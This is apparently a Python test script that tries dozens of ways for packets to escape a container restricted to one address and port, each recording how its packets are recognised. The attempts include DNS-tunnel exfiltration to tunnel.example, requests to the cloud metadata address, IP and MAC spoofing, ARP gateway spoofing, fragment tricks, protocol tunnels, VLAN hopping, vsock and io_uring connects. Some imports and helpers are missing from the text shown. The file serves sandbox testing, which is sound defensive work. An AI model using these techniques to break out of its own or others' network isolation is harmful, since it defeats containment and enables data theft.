# Ways out of a container that may reach one port of one address. Each attack says by what its packets are recognized.
import ctypes
import mmap
import os
import subprocess

MINE = [21000]


def said(error):
    return getattr(error, "strerror", None) or str(error)


def connect(to, port):
    """TCP: recognized by the destination and both ports, which are side by side in the first packet."""
    MINE[0] += 1
    six = ":" in to
    s = socket.socket(socket.AF_INET6 if six else socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(1.5)
    s.bind(("::" if six else "0.0.0.0", MINE[0]))
    try:
        s.connect((to, port))
        s.sendall(b"connected")
    except OSError:
        pass
    s.close()
    address = a6(to) if six and "." not in to else a4(to.split(":")[-1])
    return [address + struct.pack("!HH", MINE[0], port)]


def datagram(to, port, data, **options):
    six = ":" in to
    s = socket.socket(socket.AF_INET6 if six else socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    if "source" in options:
        s.bind((options["source"], 0))
    try:
        s.sendto(data, (to, port) + ((0, socket.if_nametoindex("eth0")) if six else ()))
    except OSError:
        pass
    return [data]


def look_up(name):
    try:
        socket.getaddrinfo(name, None, socket.AF_INET)
    except OSError:
        pass


def raw(lab, data, *frames):
    s = packet_socket()
    for frame in frames:
        s.send(frame)
    return [data]


def to_gateway(lab, packet, source=None):
    own, gate = lab["own"], lab["gateway"]
    return eth(gate["mac"], source or own["mac"], IP6 if packet[0] >> 4 == 6 else IP, packet)


def escape(name):
    def keep(function):
        def run(lab, marker):
            try:
                return function(lab, marker)
            except OSError as error:
                return [marker]

        ATTACKS[name] = run
        return run

    return keep


def run(*argv):
    subprocess.run(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


escape("tcp")(lambda lab, m: connect(lab["closed"]["ip"], 80))
escape("tcp-port")(lambda lab, m: connect(lab["open"]["ip"], 443))
escape("tcp6")(lambda lab, m: connect(lab["closed"]["ip6"], 80))
escape("mapped")(lambda lab, m: connect("::ffff:" + lab["closed"]["ip"], 80))
escape("udp")(lambda lab, m: datagram(lab["closed"]["ip"], 4000, m))
escape("udp6")(lambda lab, m: datagram(lab["closed"]["ip6"], 4000, m))
escape("udp-allowed")(lambda lab, m: datagram(lab["open"]["ip"], 3478, m))
escape("quic")(lambda lab, m: datagram(lab["closed"]["ip"], 443, m))
escape("dns-udp")(lambda lab, m: datagram(lab["closed"]["ip"], 53, m))
escape("dns-tcp")(lambda lab, m: connect(lab["closed"]["ip"], 53))
escape("dns-tls")(lambda lab, m: connect(lab["closed"]["ip"], 853))
escape("dns-https")(lambda lab, m: connect(lab["closed"]["ip"], 443))


@escape("dns-tunnel")
def dns_tunnel(lab, m):
    label = m.hex()
    look_up(label + ".tunnel.example")
    return [label.encode()]


def after_look_up(name, to, data):
    look_up(name)
    return datagram(to, 4000, data)


escape("dns-private")(lambda lab, m: after_look_up("private.example", lab["neighbour"]["ip"], m))
escape("dns-expired")(lambda lab, m: datagram(lab["expired"], 4000, m))
escape("alias-neighbour")(lambda lab, m: after_look_up("alias.example", lab["neighbour"]["ip"], m))
escape("alias-stranger")(lambda lab, m: after_look_up("allowed.example", lab["stranger"], m))
escape("metadata")(lambda lab, m: connect("169.254.169.254", 80))
escape("gateway")(lambda lab, m: datagram(lab["gateway"]["ip"], 4001, m))
escape("gateway6")(lambda lab, m: datagram(lab["gateway"]["ip6"], 4001, m))
escape("host")(lambda lab, m: datagram(lab["host"], 4001, m))
escape("published")(lambda lab, m: connect(lab["host"], 8080) + [b"published"] * 0 + datagram(lab["host"], 8080, m))
escape("neighbour")(lambda lab, m: connect(lab["neighbour"]["ip"], 4001))
escape("neighbour6")(lambda lab, m: datagram(lab["neighbour"]["ip6"], 4001, m))
escape("neighbour-link")(lambda lab, m: datagram(link_local(lab["neighbour"]["mac"]), 4001, m))
escape("other-network")(lambda lab, m: datagram(lab["stranger"], 4001, m))
escape("multicast")(lambda lab, m: datagram("224.0.0.251", 5353, m))
escape("multicast6")(lambda lab, m: datagram("ff02::fb", 5353, m))
escape("broadcast")(lambda lab, m: datagram("255.255.255.255", 4001, m))
escape("broadcast-subnet")(lambda lab, m: datagram(lab["broadcast"], 4001, m))


@escape("icmp")
def echo(lab, m):
    return raw(lab, m, to_gateway(lab, ip4(lab["own"]["ip"], lab["closed"]["ip"], ICMP, icmp(8, b"\0\1\0\1" + m))))


@escape("icmp-allowed")
def echo_allowed(lab, m):
    return raw(lab, m, to_gateway(lab, ip4(lab["own"]["ip"], lab["open"]["ip"], ICMP, icmp(8, b"\0\1\0\1" + m))))


@escape("icmp-answer")
def answer(lab, m):
    return raw(lab, m, to_gateway(lab, ip4(lab["own"]["ip"], lab["closed"]["ip"], ICMP, icmp(0, b"\0\1\0\1" + m))))


def icmp6_to(lab, kind, body):
    own, to = lab["own"]["ip6"], lab["closed"]["ip6"]
    return to_gateway(lab, ip6(own, to, ICMP6, icmp6(own, to, kind, body)))


escape("icmp6")(lambda lab, m: raw(lab, m, icmp6_to(lab, 128, b"\0\1\0\1" + m)))
escape("discovery-out")(lambda lab, m: raw(lab, m, icmp6_to(lab, 135, bytes(4) + a6(lab["closed"]["ip6"]) + m), icmp6_to(
    lab, 136, bytes(4) + a6(lab["own"]["ip6"]) + m)))


@escape("raw-udp")
def raw_udp(lab, m):
    own, to = lab["own"]["ip"], lab["closed"]["ip"]
    return raw(lab, m, to_gateway(lab, ip4(own, to, UDP, udp(own, to, 4000, 4000, m))))


@escape("fragments")
def fragments(lab, m):
    own, to = lab["own"]["ip"], lab["closed"]["ip"]
    whole = udp(own, to, 4000, 4000, b"." * 16 + m)
    return raw(lab, m, to_gateway(lab, ip4(own, to, UDP, whole[:24], more=True)), to_gateway(
        lab, ip4(own, to, UDP, whole[24:], offset=24)))


@escape("fragments-allowed")
def fragments_allowed(lab, m):
    """The ports are in a fragment of eight bytes, what follows claims to be of the allowed connection."""
    own, to = lab["own"]["ip"], lab["open"]["ip"]
    whole = udp(own, to, 4000, 80, b"." * 16 + m)
    return raw(lab, m, to_gateway(lab, ip4(own, to, UDP, whole[24:], offset=24, number=9)), to_gateway(
        lab, ip4(own, to, UDP, whole[:24], more=True, number=9)))


@escape("half-open")
def half_open(lab, m):
    own, to = lab["own"]["ip"], lab["closed"]["ip"]
    return raw(lab, m, *[to_gateway(lab, ip4(own, to, TCP, tcp(own, to, 4000, 80, flags, m))) for flags in (0x18, 0x12, 0x04, 0x01)])


def tunnel(lab, m, protocol, to, inner):
    return raw(lab, m, to_gateway(lab, ip4(lab["own"]["ip"], to, protocol, inner)))


def inner4(lab, m):
    return ip4(lab["own"]["ip"], lab["closed"]["ip"], UDP, udp(lab["own"]["ip"], lab["closed"]["ip"], 4000, 4000, m))


escape("tunnel-ipip")(lambda lab, m: tunnel(lab, m, 4, lab["open"]["ip"], inner4(lab, m)))
escape("tunnel-6in4")(lambda lab, m: tunnel(lab, m, 41, lab["open"]["ip"], ip6(
    lab["own"]["ip6"], lab["closed"]["ip6"], UDP, udp(lab["own"]["ip6"], lab["closed"]["ip6"], 4000, 4000, m))))
escape("tunnel-gre")(lambda lab, m: tunnel(lab, m, 47, lab["open"]["ip"], b"\0\0\x08\0" + inner4(lab, m)))
escape("sctp")(lambda lab, m: tunnel(lab, m, 132, lab["open"]["ip"], struct.pack("!HHII", 4000, 80, 0, 0) + m))
escape("unknown-protocol")(lambda lab, m: tunnel(lab, m, 253, lab["closed"]["ip"], m))


@escape("source-route")
def source_route(lab, m):
    """To an allowed address, which is to pass the packet on."""
    own, to = lab["own"]["ip"], lab["open"]["ip"]
    return raw(lab, m, to_gateway(lab, ip4(own, to, UDP, udp(own, to, 4000, 80, m), options=b"\x83\x07\x04" + a4(lab["closed"]["ip"]) + b"\0")))


@escape("routing-header")
def routing_header(lab, m):
    own, to = lab["own"]["ip6"], lab["gateway"]["ip6"]
    routing = bytes([UDP, 2, 0, 1, 0, 0, 0, 0]) + a6(lab["closed"]["ip6"])
    return raw(lab, m, to_gateway(lab, ip6(own, to, 43, routing + udp(own, to, 4000, 4001, m), 64)))


@escape("loopback")
def loopback(lab, m):
    own = lab["own"]["ip"]
    return raw(lab, m, to_gateway(lab, ip4(own, "127.0.0.1", UDP, udp(own, "127.0.0.1", 4000, 4001, m))))


@escape("frame-neighbour")
def frame_neighbour(lab, m):
    own, other = lab["own"], lab["neighbour"]
    return raw(lab, m, eth(other["mac"], own["mac"], IP, ip4(own["ip"], other["ip"], UDP, udp(own["ip"], other["ip"], 4000, 4001, m))))


@escape("frame-all")
def frame_all(lab, m):
    own, other = lab["own"], lab["neighbour"]
    return raw(lab, m, eth(ALL, own["mac"], IP, ip4(own["ip"], other["ip"], UDP, udp(own["ip"], other["ip"], 4000, 4001, m))))


@escape("neighbour-gateway")
def neighbour_gateway(lab, m):
    own, other, to = lab["own"], lab["neighbour"], lab["closed"]["ip"]
    return raw(lab, m, eth(other["mac"], own["mac"], IP, ip4(own["ip"], to, UDP, udp(own["ip"], to, 4005, 4005, m))))


@escape("new-route")
def new_route(lab, m):
    run("ip", "route", "add", lab["closed"]["ip"], "via", lab["neighbour"]["ip"])
    try:
        return datagram(lab["closed"]["ip"], 4000, m)
    finally:
        run("ip", "route", "del", lab["closed"]["ip"])


@escape("new-address")
def new_address(lab, m):
    run("ip", "address", "add", lab["own"]["free"] + "/24", "dev", "eth0")
    try:
        return datagram(lab["closed"]["ip"], 4000, m, source=lab["own"]["free"])
    finally:
        run("ip", "address", "del", lab["own"]["free"] + "/24", "dev", "eth0")


@escape("source-address")
def source_address(lab, m):
    own, other, to = lab["own"], lab["neighbour"], lab["closed"]["ip"]
    return raw(lab, m, to_gateway(lab, ip4(other["ip"], to, UDP, udp(other["ip"], to, 4000, 4000, m))))


@escape("source-hardware")
def source_hardware(lab, m):
    own, other, to = lab["own"], lab["neighbour"], lab["closed"]["ip"]
    return raw(lab, m, to_gateway(lab, ip4(other["ip"], to, UDP, udp(other["ip"], to, 4000, 4000, m)), other["mac"]))


@escape("source-none")
def source_none(lab, m):
    to = lab["closed"]["ip"]
    return raw(lab, m, to_gateway(lab, ip4("0.0.0.0", to, UDP, udp("0.0.0.0", to, 4000, 4000, m))))


@escape("source-none6")
def source_none6(lab, m):
    to = lab["closed"]["ip6"]
    return raw(lab, m, to_gateway(lab, ip6("::", to, UDP, udp("::", to, 4000, 4000, m), 64)))


@escape("arp-gateway")
def arp_gateway(lab, m):
    own = lab["own"]
    claim = arp(2, own["mac"], lab["gateway"]["ip"], lab["neighbour"]["ip"])
    return raw(lab, claim, eth(ALL, own["mac"], ARP, claim))


@escape("arp-padding")
def arp_padding(lab, m):
    own = lab["own"]
    return raw(lab, m, eth(ALL, own["mac"], ARP, arp(1, own["mac"], own["ip"], lab["neighbour"]["ip"]) + m))


@escape("router")
def router(lab, m):
    own = link_local(lab["own"]["mac"])
    body = struct.pack("!BBHII", 64, 0, 1800, 0, 0) + bytes([253, (len(m) + 9) // 8]) + m.ljust((len(m) + 9) // 8 * 8 - 2, b"\0")
    return raw(lab, m, eth("33:33:00:00:00:01", lab["own"]["mac"], IP6, ip6(own, "ff02::1", ICMP6, icmp6(own, "ff02::1", 134, body))))


@escape("discovery-padding")
def discovery_padding(lab, m):
    own = lab["own"]["ip6"]
    body = bytes(4) + a6(lab["neighbour"]["ip6"]) + b"\xfd\x08" + m.ljust(62, b".")
    return raw(lab, m, eth("33:33:00:00:00:01", lab["own"]["mac"], IP6, ip6(own, "ff02::1", ICMP6, icmp6(own, "ff02::1", 135, body))))


@escape("vlan")
def vlan(lab, m):
    own, other = lab["own"], lab["neighbour"]
    return raw(lab, m, eth(other["mac"], own["mac"], VLAN, tagged(IP, 5, ip4(
        own["ip"], other["ip"], UDP, udp(own["ip"], other["ip"], 4000, 4001, m)))))


@escape("vlan-arp")
def vlan_arp(lab, m):
    own = lab["own"]
    return raw(lab, m, eth(ALL, own["mac"], VLAN, tagged(ARP, 5, arp(1, own["mac"], own["ip"], lab["neighbour"]["ip"]) + m)))


escape("unknown-type")(lambda lab, m: raw(lab, m, eth(ALL, lab["own"]["mac"], EXPERIMENT, m.ljust(46, b"."))))
escape("spanning-tree")(lambda lab, m: raw(lab, m, eth("01:80:c2:00:00:00", lab["own"]["mac"], 38 + len(m), b"\x42\x42\x03" + bytes(35) + m)))


@escape("group-of-bridges")
def group_of_bridges(lab, m):
    own, gate = lab["own"], lab["gateway"]
    return raw(lab, m, *[eth("01:80:c2:00:00:0" + group, own["mac"], IP, ip4(
        own["ip"], gate["ip"], UDP, udp(own["ip"], gate["ip"], 4000, 4001, m))) for group in "3e"])


@escape("vsock")
def vsock(lab, m):
    s = socket.socket(40, socket.SOCK_STREAM)
    s.settimeout(1)
    for cid in (1, 2):
        try:
            s.connect((cid, 4001))
            s.sendall(m)
        except OSError:
            pass
    return [m]


@escape("abstract-socket")
def abstract_socket(lab, m):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect("\0" + lab["abstract"])
    s.sendall(m)
    return [m]


@escape("io-uring")
def io_uring(lab, m):
    """connect(2) by a thread of the kernel: io_uring_setup(2), one IORING_OP_CONNECT, io_uring_enter(2)."""
    MINE[0] += 1
    to = lab["closed"]["ip"]
    libc = ctypes.CDLL(None, use_errno=True)
    parameters = (ctypes.c_uint32 * 30)()
    ring = libc.syscall(425, 4, parameters)
    if ring < 0:
        raise OSError(ctypes.get_errno(), "io_uring_setup")
    submission = struct.unpack_from("10I", bytes(parameters), 40)
    size = submission[6] + 4 * parameters[0]
    queue = mmap.mmap(ring, size, offset=0)
    entries = mmap.mmap(ring, 64 * parameters[0], offset=0x10000000)
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind(("0.0.0.0", MINE[0]))
    address = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack("!H", 80) + a4(to) + bytes(8), 16)
    entry = struct.pack("=BBHiQQIIQ", 16, 0, 0, s.fileno(), 16, ctypes.addressof(address), 0, 0, 1)
    entries[0:len(entry)] = entry
    queue[submission[6]:submission[6] + 4] = struct.pack("I", 0)
    queue[submission[1]:submission[1] + 4] = struct.pack("I", 1)
    if libc.syscall(426, ring, 1, 0, 0, None, 0) != 1:
        raise OSError(ctypes.get_errno(), "io_uring_enter")
    import time
    time.sleep(0.5)
    return [a4(to) + struct.pack("!HH", MINE[0], 80)]


def escapes():
    lab = json.loads(sys.argv[1])
    print(json.dumps({name: [trace.hex() for trace in ATTACKS[name](lab, mark(name))] for name in lab["attacks"]}))


escapes()
